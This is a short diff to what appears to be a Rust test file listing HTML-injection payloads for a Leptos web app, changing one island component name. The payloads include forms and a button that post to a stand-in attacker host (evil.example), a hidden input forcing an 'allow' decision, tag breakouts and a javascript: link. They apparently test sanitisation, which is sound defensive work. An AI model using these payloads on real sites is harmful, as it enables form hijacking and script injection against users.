@@ -52,7 +52,7 @@ const PAYLOADS: &[&str] = &[
     "<form action=//evil.example><input name=csrf>",
     "<button form=keep-open formaction=//evil.example>Allow</button>",
     "<input type=hidden name=decision value=allow>",
-    "<leptos-island data-component=DecisionButtons></leptos-island>",
+    "<leptos-island data-component=DecisionWatcher></leptos-island>",
     "</leptos-island><b>",
     "<leptos-children></leptos-children>",
     "<a href=javascript:alert(1)>click</a>",
